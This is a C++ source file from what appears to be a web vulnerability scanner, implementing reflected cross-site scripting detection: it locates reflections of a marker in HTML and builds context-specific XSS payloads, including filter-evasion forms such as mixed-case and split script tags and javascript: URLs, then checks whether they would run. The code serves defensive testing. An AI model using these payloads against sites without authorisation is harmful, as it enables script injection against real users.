#include "ctc/scanner/checks/active/xss_analysis.hpp"

#include <gumbo.h>
#include <strings.h>

#include <algorithm>
#include <functional>

#include "ctc/scanner/crawl/html_links.hpp"

namespace ctc::scanner {
namespace {

bool isUrlAttribute(const char* name) {
  for (const char* n : {"href", "src", "action", "formaction", "data"})
    if (strcasecmp(name, n) == 0) return true;
  return false;
}

std::string_view trimLeft(std::string_view s) {
  while (!s.empty() && static_cast<unsigned char>(s.front()) <= 0x20) s.remove_prefix(1);
  return s;
}

std::string excerpt(std::string_view s, std::size_t at, std::size_t radius = 80) {
  std::size_t from = at > radius ? at - radius : 0;
  return std::string(s.substr(from, std::min(s.size() - from, 2 * radius)));
}

}  // namespace

namespace {

/// Whether a '/' after this code starts a regular expression rather than a division: after an
/// operator, an opening bracket, a separator or a keyword that takes an expression.
bool regexMayFollow(std::string_view code) {
  if (code.size() > 256) code = code.substr(code.size() - 256);  // bounded work per '/'
  std::size_t end = code.find_last_not_of(" \t\r\n");
  if (end == std::string_view::npos) return true;
  char c = code[end];
  if (std::string_view("(,=:[!&|?{};+-*%<>~^").find(c) != std::string_view::npos) return true;
  std::size_t start = end + 1;
  while (start > 0 && (std::isalnum(static_cast<unsigned char>(code[start - 1])) ||
                       code[start - 1] == '_' || code[start - 1] == '$'))
    --start;
  std::string_view word = code.substr(start, end + 1 - start);
  for (std::string_view k : {"return", "typeof", "case", "do", "else", "in", "of", "new", "delete",
                             "void", "throw", "instanceof", "yield", "await"})
    if (word == k) return true;
  return false;
}

/// The end (one past the closing '/') of the regex literal starting at js[at] == '/', or npos
/// when none ends on this line within 1,000 characters (then it was a division after all).
std::size_t regexEnd(std::string_view js, std::size_t at) {
  bool inClass = false;
  for (std::size_t i = at + 1; i < js.size() && i < at + 1000; ++i) {
    char c = js[i];
    if (c == '\n' || c == '\r') return std::string_view::npos;
    if (c == '\\') {
      ++i;
    } else if (c == '[') {
      inClass = true;
    } else if (c == ']') {
      inClass = false;
    } else if (c == '/' && !inClass) {
      return i + 1;
    }
  }
  return std::string_view::npos;
}

}  // namespace

std::string javascriptCodeOnly(std::string_view js) {
  std::string out(js);
  enum { Code, Single, Double, Template, Line, Block } state = Code;
  auto blank = [&](std::size_t from, std::size_t to) {
    for (std::size_t k = from; k < to; ++k)
      if (out[k] != '\n') out[k] = ' ';
  };
  for (std::size_t i = 0; i < out.size(); ++i) {
    char c = js[i];
    char next = i + 1 < js.size() ? js[i + 1] : '\0';
    switch (state) {
      case Code:
        if (c == '\'') {
          state = Single;
        } else if (c == '"') {
          state = Double;
        } else if (c == '`') {
          state = Template;
        } else if (c == '/' && next == '/') {
          state = Line;
        } else if (c == '/' && next == '*') {
          blank(i, i + 2);
          ++i;  // "/*/" does not close the comment
          state = Block;
          break;
        } else if (c == '/' && regexMayFollow(std::string_view(out).substr(0, i))) {
          if (auto end = regexEnd(js, i); end != std::string_view::npos) {
            blank(i, end);
            i = end - 1;
          }
          break;
        }
        if (state != Code) out[i] = ' ';
        break;
      case Single:
      case Double:
      case Template: {
        char quote = state == Single ? '\'' : state == Double ? '"' : '`';
        if (c == '\\' && i + 1 < out.size()) {
          blank(i, i + 2);
          ++i;
          break;
        }
        if (c == quote || (c == '\n' && state != Template)) state = Code;
        if (c != '\n') out[i] = ' ';
        break;
      }
      case Line:
        if (c == '\n')
          state = Code;
        else
          out[i] = ' ';
        break;
      case Block:
        if (c == '*' && next == '/') {
          blank(i, i + 2);
          ++i;
          state = Code;
        } else if (c != '\n') {
          out[i] = ' ';
        }
        break;
    }
  }
  return out;
}

std::vector<Reflection> findReflections(std::string_view html, std::string_view marker) {
  std::vector<Reflection> out;
  auto add = [&](Reflection r) {
    for (const auto& o : out)
      if (o.context == r.context && o.quote == r.quote && o.element == r.element) return;
    out.push_back(std::move(r));
  };
  BoundedHtml(html).forEachNode([&](const GumboNode& node) {
    if (node.type == GUMBO_NODE_COMMENT) {
      if (std::string_view(node.v.text.text).find(marker) != std::string_view::npos)
        add({ReflectionContext::Comment});
      return;
    }
    if (node.type == GUMBO_NODE_TEXT || node.type == GUMBO_NODE_CDATA) {
      std::string_view text = node.v.text.text;
      if (text.find(marker) == std::string_view::npos || !node.parent) return;
      GumboTag parent = node.parent->v.element.tag;
      if (parent == GUMBO_TAG_SCRIPT)
        add({ReflectionContext::Script});
      else if (parent == GUMBO_TAG_TEXTAREA || parent == GUMBO_TAG_TITLE ||
               parent == GUMBO_TAG_STYLE || parent == GUMBO_TAG_NOSCRIPT ||
               parent == GUMBO_TAG_XMP || parent == GUMBO_TAG_IFRAME)
        add({ReflectionContext::RawText, 0, gumbo_normalized_tagname(parent)});
      else
        add({ReflectionContext::Text});
      return;
    }
    if (node.type != GUMBO_NODE_ELEMENT) return;
    const GumboVector& attrs = node.v.element.attributes;
    for (unsigned i = 0; i < attrs.length; ++i) {
      auto* a = static_cast<const GumboAttribute*>(attrs.data[i]);
      std::string_view value = a->value;
      auto at = value.find(marker);
      if (at == std::string_view::npos) continue;
      char quote = 0;
      if (a->original_value.length > 0 &&
          (*a->original_value.data == '"' || *a->original_value.data == '\''))
        quote = *a->original_value.data;
      add({ReflectionContext::Attribute, quote});
      if (isUrlAttribute(a->name) && trimLeft(value).starts_with(marker))
        add({ReflectionContext::Url, quote});
    }
  });
  return out;
}

namespace {

/// Elements that run `call` without a <script> tag, for markup contexts: the plain <img> first,
/// then forms that survive a filter of "<script", of "onerror", of spaces, or of lower case.
std::vector<std::string> elementPayloads(const std::string& call) {
  return {"<img src=x onerror=" + call + ">",     "<svg onload=" + call + ">",
          "<details open ontoggle=" + call + ">", "<svg/onload=" + call + ">",
          "<ScRiPt>" + call + "</sCrIpT>",        "<scr<script>ipt>" + call + "</scr</script>ipt>"};
}

std::vector<std::string> prefixed(const std::string& prefix, std::vector<std::string> payloads) {
  for (auto& p : payloads) p = prefix + p;
  return payloads;
}

}  // namespace

std::vector<std::string> xssPayloads(const Reflection& where, std::string_view marker) {
  std::string call = std::string(marker) + "()";
  switch (where.context) {
    case ReflectionContext::Text:
      return elementPayloads(call);
    case ReflectionContext::Attribute: {
      // Breaking out needs only the quote: handlers first (they pass a filter of < and >).
      std::string q = where.quote ? std::string(1, where.quote) : "";
      // An unquoted value ends at whitespace only, and only after a character ("value= x"
      // skips the space): "x" ends it, and a tab stands in for a filtered space.
      std::string open = where.quote ? q : "x";
      std::vector<std::string> out = {
          open + " onmouseover=" + call + " x=" + q,
          open + " autofocus onfocus=" + call + " x=" + q,
          where.quote ? q + "/onmouseover=" + call + "//" : "x\tonmouseover=" + call};
      for (auto& p : prefixed(q + ">", elementPayloads(call))) out.push_back(std::move(p));
      out.resize(std::min<std::size_t>(out.size(), 6));
      return out;
    }
    case ReflectionContext::Script:
      return {"</script><img src=x onerror=" + call + ">",
              "';" + call + ";//",
              "\";" + call + ";//",
              "'-" + call + "-'",
              "\"-" + call + "-\"",
              "\\';" + call + ";//",
              "</ScRiPt><svg onload=" + call + ">"};
    case ReflectionContext::Url:
      return {"javascript:" + call, "JaVaScRiPt:" + call, "java\tscript:" + call,
              "javascript://%0a" + call};
    case ReflectionContext::Comment:
      return prefixed("-->", {"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">"});
    case ReflectionContext::RawText: {
      std::string close = "</" + where.element + ">";
      std::vector<std::string> out = prefixed(close, elementPayloads(call));
      out.resize(4);
      return out;
    }
  }
  return {};
}

std::string provenXss(std::string_view html, std::string_view marker) {
  std::string call = std::string(marker) + "()";
  std::string proof;
  BoundedHtml(html).forEachNode([&](const GumboNode& node) {
    if (!proof.empty()) return;
    if (node.type == GUMBO_NODE_TEXT && node.parent &&
        node.parent->v.element.tag == GUMBO_TAG_SCRIPT) {
      std::string_view text = node.v.text.text;
      std::string code = javascriptCodeOnly(text);
      if (auto at = code.find(call); at != std::string::npos)
        proof = "<script>..." + excerpt(text, at) + "...</script>";
      return;
    }
    if (node.type != GUMBO_NODE_ELEMENT) return;
    const GumboVector& attrs = node.v.element.attributes;
    for (unsigned i = 0; i < attrs.length && proof.empty(); ++i) {
      auto* a = static_cast<const GumboAttribute*>(attrs.data[i]);
      std::string_view value = a->value;
      if (value.find(call) == std::string_view::npos) continue;
      bool handler = strncasecmp(a->name, "on", 2) == 0;
      // Browsers drop tabs and newlines anywhere in a URL: "java&#x09;script:" runs too.
      std::string url;
      for (char ch : trimLeft(value))
        if (ch != '\t' && ch != '\n' && ch != '\r') url += ch;
      bool jsUrl = isUrlAttribute(a->name) && url.size() > 11 &&
                   strncasecmp(url.data(), "javascript:", 11) == 0;
      if (handler || jsUrl)
        proof = "<" + std::string(gumbo_normalized_tagname(node.v.element.tag)) + " " + a->name +
                "=\"" + std::string(value) + "\">";
    }
  });
  return proof;
}

}  // namespace ctc::scanner
